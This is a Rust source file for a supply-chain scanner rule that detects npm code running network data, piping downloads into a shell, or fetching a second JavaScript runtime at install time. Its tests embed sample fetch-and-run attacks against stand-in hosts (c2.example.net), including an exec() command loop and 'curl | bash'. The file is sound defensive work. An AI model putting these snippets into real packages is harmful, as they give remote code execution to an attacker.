//! `code/download-exec`.

use super::{chain, finding, locality, per_signal};
use crate::CodeFinding;
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// Code runs what it receives from the network, or fetches a second runtime and runs a file with it.
    ///
    /// ## What it detects
    /// Process spawns or `eval`/`Function` whose argument is data received inside a network callback (C2 command
    /// loops), and install-time fetches of a second runtime (bun, deno) that is then spawned.
    ///
    /// ## Why it matters
    /// Remote command execution turns an install into a backdoor (desktop-notify style agents); Shai-Hulud 2.0
    /// fetched bun at install time to run its payload outside Node's view.
    ///
    /// ## Example
    /// `https.get(u, r => r.on('data', c => b += c).on('end', () => exec(b)))`
    ///
    /// ## Known false positives
    /// Installers that download a prebuilt binary and run it to check its version; checksum-verified downloads
    /// from the project's own releases are not remote command execution and are not reported. Browser module
    /// loaders (AMD, SystemJS: monaco-editor's `loader.js`) `fetch` the script URL they are asked to load and
    /// evaluate it; `eval`/`Function` of a `fetch` whose URL is a caller's parameter is not reported (a constant
    /// URL, or a process spawn of network data, is).
    pub static DOWNLOAD_EXEC = { id: "code/download-exec", severity: Severity::High };
}

/// Remote exec and runtime droppers.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let mut out = per_signal(p, Kind::RemoteExec, |f, s| {
        // A verified download (checksum compared) that is then run is an installer.
        if f.has(Kind::ChecksumVerify) {
            return None;
        }
        let msg = format!("network data executed: {}", s.detail);
        Some(finding(
            &DOWNLOAD_EXEC,
            Severity::Critical,
            f,
            s,
            Locality::Function,
            msg,
            chain(p, f, s, &[Kind::Network, Kind::Spawn]),
        ))
    });
    out.extend(per_signal(p, Kind::ShellPipeExec, |f, s| {
        if f.path == "package.json" {
            return None;
        }
        let msg = format!("download piped into a shell: `{}`", s.detail);
        Some(finding(
            &DOWNLOAD_EXEC,
            Severity::Critical,
            f,
            s,
            Locality::Function,
            msg,
            chain(p, f, s, &[Kind::Spawn]),
        ))
    }));
    out.extend(per_signal(p, Kind::RuntimeSpawn, |f, s| {
        // A second runtime run by install-time code that also downloads: Shai-Hulud 2.0's
        // "setup bun, then run the payload with it".
        if !f.install_time
            || !(f.has(Kind::RuntimeDropper) || f.has(Kind::Network) || f.has(Kind::ShellNetwork))
        {
            return None;
        }
        let msg = format!(
            "install-time code fetches and runs a second JavaScript runtime: `{}`",
            s.detail
        );
        Some(finding(
            &DOWNLOAD_EXEC,
            DOWNLOAD_EXEC.default_severity,
            f,
            s,
            Locality::Function,
            msg,
            chain(p, f, s, &[Kind::Network, Kind::RuntimeDropper]),
        ))
    }));
    out.extend(per_signal(p, Kind::RuntimeDropper, |f, s| {
        let loc = locality(p, f, s, &[Kind::Spawn, Kind::ShellPipeExec]);
        if loc < Locality::File || f.has(Kind::ChecksumVerify) {
            return None;
        }
        let msg = format!("second JavaScript runtime fetched and run: {}", s.detail);
        Some(finding(
            &DOWNLOAD_EXEC,
            DOWNLOAD_EXEC.default_severity,
            f,
            s,
            loc,
            msg,
            chain(p, f, s, &[Kind::Network, Kind::Spawn]),
        ))
    }));
    out
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan};

    #[test]
    fn positive() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "agent.js",
                "const https = require('https');\nconst { exec } = require('child_process');\nhttps.get('https://c2.example.net/t', (res) => {\n  let b = '';\n  res.on('data', (c) => { b += c; });\n  res.on('end', () => { exec(b); });\n});\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("agent.js".to_string(), 6)]
        );
    }

    #[test]
    fn negative_fixed_command() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "const https = require('https');\nconst { execFile } = require('child_process');\nhttps.get('https://x.example.net', () => { execFile('git', ['status']); });\n",
            ),
        ]);
        assert!(hits(&s, "code/download-exec").is_empty());
    }

    #[test]
    fn positive_curl_pipe_from_code() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "i.js",
                "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://get.example.net/x | bash');\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("i.js".to_string(), 2)]
        );
    }

    #[test]
    fn negative_verified_download() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "i.js",
                "const https = require('https'), crypto = require('crypto'), cp = require('child_process');\nhttps.get(u, (res) => { const h = crypto.createHash('sha256'); cp.execFileSync(bin, ['--version']); });\n",
            ),
        ]);
        assert!(hits(&s, "code/download-exec").is_empty());
    }

    /// monaco-editor's AMD loader: fetches the module URL it was given and evaluates the text.
    #[test]
    fn negative_browser_module_loader() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "vs/loader.js",
                "function load(url, done, fail) {\n  fetch(url)\n    .then((r) => { if (r.status !== 200) throw new Error(r.statusText); return r.text(); })\n    .then((t) => { new Function(t + '\\n//# sourceURL=' + url).call(self); done(); })\n    .then(undefined, fail);\n}\nmodule.exports = load;\n",
            ),
        ]);
        assert!(hits(&s, "code/download-exec").is_empty());
    }

    #[test]
    fn positive_fetch_constant_url_then_eval() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "b.js",
                "fetch('https://c2.example.net/payload.js')\n  .then((r) => r.text())\n  .then((t) => { eval(t); });\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("b.js".to_string(), 3)]
        );
    }
}
